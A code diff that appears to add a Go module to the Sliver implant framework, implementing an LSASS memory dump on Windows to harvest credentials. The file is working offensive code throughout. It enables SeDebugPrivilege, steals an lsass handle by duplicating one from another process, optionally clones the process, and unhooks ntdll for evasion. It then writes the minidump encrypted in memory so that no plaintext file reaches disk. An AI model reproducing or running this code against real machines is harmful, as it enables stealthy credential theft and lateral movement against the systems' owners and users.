@@ -0,0 +1,321 @@
+package procdump
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"crypto/aes"
+	"crypto/cipher"
+	"errors"
+	"fmt"
+	"runtime"
+	"strings"
+	"sync"
+	"unsafe"
+
+	// {{if .Config.Evasion}}
+	// {{if eq .Config.GOARCH "amd64"}}
+	"github.com/bishopfox/sliver/implant/sliver/evasion"
+	// {{end}}
+	// {{end}}
+
+	"github.com/bishopfox/sliver/implant/sliver/ntapi"
+	"github.com/bishopfox/sliver/implant/sliver/priv"
+	"github.com/bishopfox/sliver/implant/sliver/ps"
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	// LsassDuplicate - Duplicate a handle to lsass another process already has open
+	LsassDuplicate = "duplicate"
+	// LsassOpen - Open lsass ourselves
+	LsassOpen = "open"
+
+	dumpAccess  = windows.PROCESS_QUERY_INFORMATION | windows.PROCESS_VM_READ
+	cloneAccess = dumpAccess | windows.PROCESS_CREATE_PROCESS | windows.PROCESS_DUP_HANDLE | windows.PROCESS_VM_OPERATION
+
+	// PSS_CAPTURE_VA_CLONE | PSS_CAPTURE_HANDLES | PSS_CAPTURE_HANDLE_NAME_INFORMATION |
+	// PSS_CAPTURE_HANDLE_BASIC_INFORMATION | PSS_CAPTURE_HANDLE_TYPE_SPECIFIC_INFORMATION |
+	// PSS_CAPTURE_HANDLE_TRACE | PSS_CAPTURE_THREADS | PSS_CAPTURE_THREAD_CONTEXT |
+	// PSS_CAPTURE_THREAD_CONTEXT_EXTENDED | PSS_CREATE_BREAKAWAY_OPTIONAL | PSS_CREATE_BREAKAWAY |
+	// PSS_CREATE_USE_VM_ALLOCATIONS | PSS_CREATE_RELEASE_SECTION
+	pssCloneFlags = 0x000003FD | 0x04000000 | 0x08000000 | 0x20000000 | 0x80000000
+
+	contextAllAMD64 = 0x0010001F
+	contextAll386   = 0x0001003F
+)
+
+var (
+	// ErrNoLsassHandle - No other process has a handle to lsass we can duplicate
+	ErrNoLsassHandle = errors.New("no process has a handle to lsass with enough access to duplicate, try the open technique")
+
+	// Dumps share one callback, there's a limit to how many we can create
+	lsassCallbackOnce sync.Once
+	lsassCallback     uintptr
+
+	lsassMutex = &sync.Mutex{}
+	activeDump *encryptedDump
+)
+
+// encryptedDump - The minidump is only ever held encrypted, each write is copied
+// into a scratch chunk that's encrypted where it lands in the dump and zeroed
+type encryptedDump struct {
+	block cipher.Block
+	clone bool
+	data  []byte
+	size  uint64
+	chunk []byte
+}
+
+func (d *encryptedDump) write(offset uint64, buffer uintptr, length uint32) {
+	if length == 0 {
+		return
+	}
+	end := offset + uint64(length)
+	if uint64(len(d.data)) < end {
+		size := uint64(len(d.data)) * 2
+		if size < end+IncrementSize {
+			size = end + IncrementSize
+		}
+		data := make([]byte, size)
+		copy(data, d.data[:d.size])
+		d.data = data
+	}
+	if uint32(len(d.chunk)) < length {
+		d.chunk = make([]byte, length)
+	}
+	chunk := d.chunk[:length]
+	syscalls.RtlCopyMemory(uintptr(unsafe.Pointer(&chunk[0])), buffer, length)
+	encryptAt(d.block, d.data[offset:end], chunk, offset)
+	for index := range chunk {
+		chunk[index] = 0
+	}
+	if d.size < end {
+		d.size = end
+	}
+}
+
+// DumpLsass - Minidump lsass into memory, encrypted with the key as it's written so
+// the plaintext dump never exists on disk or in one piece in memory. Returns the
+// encrypted dump and lsass' pid
+func DumpLsass(technique string, clone bool, pid uint32, key []byte) ([]byte, uint32, error) {
+	block, err := aes.NewCipher(key)
+	if err != nil {
+		return nil, 0, err
+	}
+	err = priv.SePrivEnable("SeDebugPrivilege")
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[lsass] SeDebugPrivilege: %s", err)
+		// {{end}}
+	}
+	if pid == 0 {
+		pid, err = lsassPid()
+		if err != nil {
+			return nil, 0, err
+		}
+	}
+
+	access := uint32(dumpAccess)
+	if clone {
+		access = cloneAccess
+	}
+	var handle windows.Handle
+	switch strings.ToLower(technique) {
+	case "", LsassDuplicate:
+		handle, err = duplicateHandle(pid, access)
+	case LsassOpen:
+		handle, err = ntapi.OpenProcess(access, false, pid)
+	default:
+		return nil, 0, fmt.Errorf("unknown technique '%s'", technique)
+	}
+	if err != nil {
+		return nil, 0, err
+	}
+	defer windows.CloseHandle(handle)
+
+	dumpHandle := handle
+	if clone {
+		contextFlags := uint32(contextAllAMD64)
+		if runtime.GOARCH == "386" {
+			contextFlags = contextAll386
+		}
+		var snapshot windows.Handle
+		err = syscalls.PssCaptureSnapshot(handle, pssCloneFlags, contextFlags, &snapshot)
+		if err != nil {
+			return nil, 0, err
+		}
+		defer syscalls.PssFreeSnapshot(windows.CurrentProcess(), snapshot)
+		dumpHandle = snapshot
+	}
+
+	// {{if eq .Config.GOARCH "amd64"}}
+	// {{if .Config.Evasion}}
+	// Same as minidump()
+	err = evasion.RefreshPE(`c:\windows\system32\ntdll.dll`)
+	if err != nil {
+		return nil, 0, err
+	}
+	// {{end}}
+	// {{end}}
+
+	lsassMutex.Lock()
+	defer lsassMutex.Unlock()
+	activeDump = &encryptedDump{block: block, clone: clone}
+	defer func() {
+		activeDump = nil
+	}()
+	lsassCallbackOnce.Do(func() {
+		lsassCallback = windows.NewCallback(lsassMinidumpCallback)
+	})
+	callbackInfo := MiniDumpCallbackInformation{CallbackRoutine: lsassCallback}
+	err = syscalls.MiniDumpWriteDump(dumpHandle, pid, 0, MiniDumpWithFullMemory, 0, 0, uintptr(unsafe.Pointer(&callbackInfo)))
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[lsass] MiniDumpWriteDump: %s", err)
+		// {{end}}
+		return nil, 0, err
+	}
+	return activeDump.data[:activeDump.size], pid, nil
+}
+
+func lsassMinidumpCallback(callbackParam uintptr, callbackInputPtr uintptr, callbackOutput *MiniDumpCallbackOutput) uintptr {
+	callbackInput, err := getCallbackInput(callbackInputPtr)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("getCallbackInput failed: %s\n", err.Error())
+		// {{end}}
+		return FALSE
+	}
+	switch callbackInput.CallbackType {
+	case IsProcessSnapshotCallback:
+		if activeDump.clone {
+			callbackOutput.Status = S_FALSE
+		}
+	case IoStartCallback:
+		callbackOutput.Status = S_FALSE
+	case IoWriteAllCallback:
+		activeDump.write(callbackInput.Io.Offset, callbackInput.Io.Buffer, callbackInput.Io.BufferBytes)
+		callbackOutput.Status = S_OK
+	case IoFinishCallback:
+		callbackOutput.Status = S_OK
+	}
+	return TRUE
+}
+
+func lsassPid() (uint32, error) {
+	processes, err := ps.Processes()
+	if err != nil {
+		return 0, err
+	}
+	for _, process := range processes {
+		if strings.EqualFold(process.Executable(), "lsass.exe") {
+			return uint32(process.Pid()), nil
+		}
+	}
+	return 0, errors.New("lsass.exe is not running")
+}
+
+// duplicateHandle - Find a process handle to pid with the access we need in another
+// process' handle table and duplicate it, so we never open lsass ourselves
+func duplicateHandle(pid uint32, access uint32) (windows.Handle, error) {
+	self := windows.GetCurrentProcessId()
+	// Our own handle tells us the object type index of processes
+	marker, err := windows.OpenProcess(windows.PROCESS_QUERY_LIMITED_INFORMATION, false, self)
+	if err != nil {
+		return 0, err
+	}
+	defer windows.CloseHandle(marker)
+	handles, err := systemHandles()
+	if err != nil {
+		return 0, err
+	}
+	processType := -1
+	for _, handle := range handles {
+		if handle.UniqueProcessId == uintptr(self) && handle.HandleValue == uintptr(marker) {
+			processType = int(handle.ObjectTypeIndex)
+			break
+		}
+	}
+	if processType < 0 {
+		return 0, ErrNoLsassHandle
+	}
+
+	owners := map[uintptr]windows.Handle{}
+	defer func() {
+		for _, owner := range owners {
+			if owner != 0 {
+				windows.CloseHandle(owner)
+			}
+		}
+	}()
+	current := windows.CurrentProcess()
+	for _, handle := range handles {
+		if int(handle.ObjectTypeIndex) != processType || handle.GrantedAccess&access != access {
+			continue
+		}
+		if handle.UniqueProcessId == uintptr(pid) || handle.UniqueProcessId == uintptr(self) {
+			continue
+		}
+		owner, ok := owners[handle.UniqueProcessId]
+		if !ok {
+			owner, _ = windows.OpenProcess(windows.PROCESS_DUP_HANDLE, false, uint32(handle.UniqueProcessId))
+			owners[handle.UniqueProcessId] = owner
+		}
+		if owner == 0 {
+			continue
+		}
+		var duplicate windows.Handle
+		err = windows.DuplicateHandle(owner, windows.Handle(handle.HandleValue), current, &duplicate, access, false, 0)
+		if err != nil {
+			continue
+		}
+		if duplicatePid, err := windows.GetProcessId(duplicate); err == nil && duplicatePid == pid {
+			// {{if .Config.Debug}}
+			log.Printf("[lsass] duplicated handle %#x of pid %d", handle.HandleValue, handle.UniqueProcessId)
+			// {{end}}
+			return duplicate, nil
+		}
+		windows.CloseHandle(duplicate)
+	}
+	return 0, ErrNoLsassHandle
+}
+
+func systemHandles() ([]syscalls.SYSTEM_HANDLE_TABLE_ENTRY_INFO_EX, error) {
+	size := uint32(1 << 20)
+	for {
+		buffer := make([]byte, size)
+		var returned uint32
+		err := windows.NtQuerySystemInformation(windows.SystemExtendedHandleInformation, unsafe.Pointer(&buffer[0]), size, &returned)
+		if err == windows.STATUS_INFO_LENGTH_MISMATCH {
+			size *= 2 // Handles come and go between queries, the returned size is a guess
+			continue
+		}
+		if err != nil {
+			return nil, err
+		}
+		info := (*syscalls.SYSTEM_HANDLE_INFORMATION_EX)(unsafe.Pointer(&buffer[0]))
+		first := (*syscalls.SYSTEM_HANDLE_TABLE_ENTRY_INFO_EX)(unsafe.Pointer(&buffer[unsafe.Sizeof(*info)]))
+		return unsafe.Slice(first, info.NumberOfHandles), nil
+	}
+}